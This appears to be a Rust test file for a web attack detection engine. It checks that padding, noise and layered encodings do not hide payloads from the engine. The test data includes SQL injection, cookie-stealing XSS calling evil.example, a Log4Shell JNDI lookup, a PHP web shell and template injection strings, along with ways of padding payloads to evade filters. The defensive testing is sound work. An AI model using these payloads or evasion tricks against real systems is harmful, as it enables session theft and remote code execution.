//! Padding hides nothing: a kilobyte to a megabyte of it, before a payload and inside, in forms and in JSON.

use sidewatch::http::{Messages, Version};
use sidewatch::{Engine, Transaction, Verdict};

/// Text that repeats nothing for long.
fn noise(size: usize) -> String {
    let mut seed = 1u64;
    let next = |_| {
        seed = seed.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
        char::from(b'a' + (seed >> 33) as u8 % 26)
    };
    (0..size).map(next).collect()
}

fn repeated(text: &str, size: usize) -> String {
    text.repeat(size / text.len() + 1)
}

/// Name, and what it makes of a size: padding that the interpreter passes over.
type Pad = (&'static str, fn(usize) -> String);

const INSIDE_SQL: &[Pad] = &[
    ("blanks", |n| repeated(" ", n)),
    ("tabs and line ends", |n| repeated(" \t \n", n)),
    ("empty comments", |n| repeated("/**/", n)),
    ("one comment of letters", |n| format!("/*{}*/", repeated("a", n))),
    ("one comment of noise", |n| format!("/*{}*/", noise(n))),
    ("comments of noise", |n| format!("/*{}*/", noise(1500)).repeat(n / 1500 + 1)),
    ("a line of noise", |n| format!("-- {}\n", noise(n))),
];

const BEFORE: &[Pad] = &[
    ("blanks", |n| repeated(" ", n)),
    ("letters", |n| repeated("A", n)),
    ("words", |n| repeated("lorem ", n)),
    ("noise", noise),
];

const SIZES: [usize; 4] = [1 << 10, 10_000, 1 << 17, 1 << 20];

fn percent(text: &str) -> String {
    let mut out = String::new();
    for b in text.bytes() {
        match b {
            b' ' => out.push('+'),
            b'a'..=b'z' | b'A'..=b'Z' | b'0'..=b'9' | b'*' | b'-' => out.push(b.into()),
            _ => out += &format!("%{b:02X}"),
        }
    }
    out
}

/// Each padding with its prefix and suffix as the value of a form, of a form in which all signs are escaped, and of JSON.
fn check(transaction: &mut Transaction, name: &str, value: &str, class: &str, wrong: &mut Vec<String>) {
    let json = value.replace('\\', "\\\\").replace('"', "\\\"").replace('\n', "\\n").replace('\t', "\\t");
    let escaped: String = percent(value).replace('*', "%2A").replace('-', "%2D");
    for (kind, body) in [
        ("application/x-www-form-urlencoded", format!("a=1&q={}", percent(value))),
        ("application/x-www-form-urlencoded", format!("a=1&q={escaped}")),
        ("application/json", format!("{{\"q\":\"{json}\"}}")),
    ] {
        transaction.reset();
        transaction.request_line(b"POST", b"/a", Version::Http11);
        transaction.request_header(b"Content-Type", kind.as_bytes());
        transaction.request_head_end();
        body.as_bytes().chunks(16_000).for_each(|piece| transaction.request_body(piece));
        transaction.request_end();
        let found = transaction.findings().iter().any(|f| f.class.name() == class && f.confidence >= 50);
        if !found {
            wrong.push(format!("{name}, {} bytes of {kind}: {:?}", value.len(), transaction.findings()));
        }
    }
}

#[test]
fn padding_inside_hides_nothing() {
    let mut transaction = Engine::default().transaction();
    let mut wrong = Vec::new();
    for (name, pad) in INSIDE_SQL {
        for size in SIZES {
            let pad = pad(size);
            let value = format!("7'{pad}UNION{pad}SELECT{pad}login,pin{pad}FROM staff");
            if value.len() < 3 << 20 {
                check(&mut transaction, name, &value, "sqli", &mut wrong);
            }
            check(
                &mut transaction,
                name,
                &format!("7' UNION{pad}SELECT login,pin FROM staff"),
                "sqli",
                &mut wrong,
            );
        }
    }
    assert!(wrong.is_empty(), "{} wrong:\n{}", wrong.len(), wrong.join("\n"));
}

#[test]
fn padding_before_hides_nothing() {
    let mut transaction = Engine::default().transaction();
    let mut wrong = Vec::new();
    for (name, pad) in BEFORE {
        for size in SIZES {
            let pad = pad(size);
            for (class, payload) in [
                ("sqli", "7' UNION SELECT login, pin FROM staff"),
                ("xss", "<svg onload=fetch('//evil.example/'+document.cookie)>"),
                ("rce", "${jndi:ldap://198.51.100.7:1389/o}"),
            ] {
                check(&mut transaction, name, &format!("{pad}{payload}"), class, &mut wrong);
            }
        }
    }
    assert!(wrong.is_empty(), "{} wrong:\n{}", wrong.len(), wrong.join("\n"));
}

#[test]
fn fields_before_hide_nothing() {
    let mut transaction = Engine::default().transaction();
    for size in SIZES {
        transaction.reset();
        let body =
            format!("{}q={}", repeated("A=A&", size), percent("7' UNION SELECT login, pin FROM staff"));
        transaction.request_line(b"POST", b"/a", Version::Http11);
        transaction.request_header(b"Content-Type", b"application/x-www-form-urlencoded");
        transaction.request_head_end();
        body.as_bytes().chunks(16_000).for_each(|piece| transaction.request_body(piece));
        transaction.request_end();
        assert_eq!(transaction.verdict(), Verdict::Attack, "{size} bytes of fields");
    }
}

#[test]
fn decoding_of_one_value_leaves_enough_for_the_next() {
    let mut transaction = Engine::default().transaction();
    // In base64.
    let payload = "NycgVU5JT04gU0VMRUNUIGxvZ2luLCBwaW4gRlJPTSBzdGFmZg==";
    let layers = "&amp;amp;amp;lt;%25252526lt;&#38;#38;\\\\x5c\\\\u0026 ".repeat(15);
    let greedy: String =
        (0..1000).map(|i| format!("\"{i}\":\"{}\",", layers.replace('\\', "\\\\"))).collect();
    let body = format!("{{{greedy}\"q\":\"{payload}\"}}");
    transaction.request_line(b"POST", b"/a", Version::Http11);
    transaction.request_header(b"Content-Type", b"application/json");
    transaction.request_head_end();
    transaction.request_body(body.as_bytes());
    transaction.request_end();
    assert!(transaction.anomalies().contains(sidewatch::Anomaly::DecodeBudget));
    let found = transaction.findings().iter().any(|f| f.point == "body.json.q|base64");
    assert!(found, "{:?}", transaction.findings());
}

#[test]
fn signs_of_many_encodings_hide_no_payload() {
    // Each decoder finds something in every line of it.
    let signs = |lines: u64| -> String {
        (0..lines)
            .map(|i| format!("%{} \\x4{} &#3{};\u{ff1d}%z{} ", i % 7, i % 10, i % 8, i * i % 97))
            .collect()
    };
    let each = |text: &str, form: &dyn Fn(u8) -> String| text.bytes().map(form).collect::<String>();
    let percent = |text: &str| each(text, &|b| format!("%{b:02x}"));
    let layers: [&dyn Fn(&str) -> String; 7] = [
        &|text| text.to_owned(),
        &percent,
        &|text| percent(&percent(text)),
        &|text| each(text, &|b| format!("&#{b};")),
        &|text| each(text, &|b| format!("\\x{b:02x}")),
        &|text| percent(&each(text, &|b| format!("&#{b};"))),
        &|text| each(text, &|b| format!("&#37;{b:02x}")),
    ];
    let mut transaction = Engine::default().transaction();
    let mut wrong = Vec::new();
    for (i, layer) in layers.iter().enumerate() {
        for lines in [20, 60, 300, 3000] {
            for (class, payload) in [
                ("sqli", "7' UNION SELECT login, pin FROM staff-- "),
                ("xss", "<svg onload=fetch('//evil.example/'+document.cookie)>"),
                ("rce", "${jndi:ldap://198.51.100.7:1389/o}"),
            ] {
                let value = signs(lines) + &layer(payload) + &signs(lines / 3);
                check(
                    &mut transaction,
                    &format!("{lines} lines of signs, layers {i}"),
                    &value,
                    class,
                    &mut wrong,
                );
            }
        }
    }
    assert!(wrong.is_empty(), "{} wrong:\n{}", wrong.len(), wrong.join("\n"));
}

/// Bytes as random as those of a picture.
fn picture(size: usize) -> Vec<u8> {
    let mut seed = 7u64;
    let next = |_| {
        seed = seed.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
        (seed >> 40) as u8
    };
    (0..size).map(next).collect()
}

fn upload(body: &[u8]) -> Transaction {
    upload_in_pieces(body, 60_000)
}

fn upload_in_pieces(body: &[u8], piece: usize) -> Transaction {
    let mut transaction = Engine::default().transaction();
    transaction.request_line(b"PUT", b"/pictures/7", Version::Http11);
    transaction.request_header(b"Host", b"a.example");
    transaction.request_header(b"Content-Type", b"application/octet-stream");
    transaction.request_head_end();
    body.chunks(piece).for_each(|piece| transaction.request_body(piece));
    transaction.request_end();
    transaction
}

#[test]
fn code_deep_inside_a_picture_is_found_and_the_picture_is_no_attack() {
    let (before, after) = (picture(300_000), picture(50_000));
    let plain = upload(&[&before[..], &after].concat());
    let late = |f: &&sidewatch::Finding| f.offset > 8192;
    assert!(!plain.findings().iter().any(|f| late(&f)), "{:#?}", plain.findings());
    for code in ["<?php system($_GET['c']); ?>", "<script>fetch('//x.example/'+document.cookie)</script>"] {
        let found = upload(&[&before[..], b"\xff\xfe", code.as_bytes(), &[0], &after].concat());
        assert_eq!(found.verdict(), Verdict::Attack, "{code}");
        let at = before.len() as u64;
        assert!(
            found.findings().iter().any(|f| (at..at + 60).contains(&f.offset)),
            "{:#?}",
            found.findings()
        );
    }
}

#[test]
fn code_anywhere_in_a_picture_is_found_in_any_pieces() {
    let picture = picture(24_000);
    let told = |t: &Transaction| -> Vec<String> { t.findings().iter().map(|f| format!("{f:?}")).collect() };
    for at in [0, 1, 700, 4_000, 8_150, 8_180, 8_200, 15_340, 15_370, 16_380, 22_500, 23_999] {
        for code in [
            "<?php system($_GET['c']); ?>",
            "<script>fetch('//x.example/'+document.cookie)</script>",
            "' union select password from users-- ",
        ] {
            let body = [&picture[..at], b"\xff", code.as_bytes(), &[0], &picture[at..]].concat();
            let whole = upload_in_pieces(&body, usize::MAX);
            assert_eq!(whole.verdict(), Verdict::Attack, "{code} at {at}");
            for piece in [1, 64, 1460, 8192] {
                assert_eq!(
                    told(&upload_in_pieces(&body, piece)),
                    told(&whole),
                    "{code} at {at} in pieces of {piece}"
                );
            }
        }
    }
}

#[test]
fn control_bytes_hide_no_parameter_past_the_limit() {
    // Past the most parameters a form is raw text, and an application may read on: a short value counts there.
    let mut body: Vec<u8> = b"a=1&".repeat(10_001);
    body.extend((0..20_000).map(|i| if i % 9 == 0 { 1 } else { b"b=cd&efg"[i % 8] }));
    body.extend(b"\x01'or 7=7-- \x01&z=\x01");
    let mut transaction = Engine::default().transaction();
    transaction.request_line(b"POST", b"/a", Version::Http11);
    transaction.request_header(b"Host", b"a.example");
    transaction.request_header(b"Content-Type", b"application/x-www-form-urlencoded");
    transaction.request_head_end();
    transaction.request_body(&body);
    transaction.request_end();
    let sqli = |f: &sidewatch::Finding| f.class == sidewatch::detect::Class::Sqli && f.offset > 16_000;
    assert!(transaction.findings().iter().any(sqli), "{:#?}", transaction.findings());
}

#[test]
fn noise_of_signs_hides_no_words() {
    let noise = |size: usize, signs: &[u8]| -> String {
        let mut seed = 1u64;
        let next = |_| {
            seed = seed.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
            char::from(signs[(seed >> 33) as usize % signs.len()])
        };
        (0..size).map(next).collect()
    };
    let all = b"'\"`()[]{}<>=;:|&$%#@!*+-/\\,.~^? \n\taA1";
    let mut transaction = Engine::default().transaction();
    let mut wrong = Vec::new();
    for size in [1_500, 3_500, 12_345, 40_000] {
        let (before, behind) = (noise(size, all), noise(size.min(9_000), all));
        for (class, payload) in [
            ("sqli", "7' UNION SELECT login, pin FROM staff -- "),
            ("xss", "<svg onload=fetch('//evil.example/'+document.cookie)>"),
            ("rce", "${jndi:ldap://198.51.100.7:1389/o}"),
            ("ssti", "{{config.__class__.__init__.__globals__}}"),
        ] {
            let value = format!("{before} {payload}{behind}");
            check(&mut transaction, "noise around", &value, class, &mut wrong);
            assert!(transaction.anomalies().contains(sidewatch::Anomaly::Noise));
        }
        // What stands at the end is judged without a word, too.
        let value = format!("{before}<%=7*7%>");
        check(&mut transaction, "noise before", &value, "ssti", &mut wrong);
        // A comment and a string have what they like in them.
        let comment = noise(size, b"'\"`()[]{}<>=;:|&$%#@!+-\\,.~^? \n\taA1");
        let string = noise(size, b"\"`()[]{}<>=;:|&$%#@!+-,.~^? \n\taA1");
        for payload in [
            format!("7' /*{comment}*/ UNION SELECT login, pin FROM staff -- "),
            format!("7' AND '{string}'<>'a' UNION SELECT login, pin FROM staff -- "),
        ] {
            check(&mut transaction, "noise inside", &payload, "sqli", &mut wrong);
        }
    }
    assert!(wrong.is_empty(), "{} wrong:\n{}", wrong.len(), wrong.join("\n"));
}
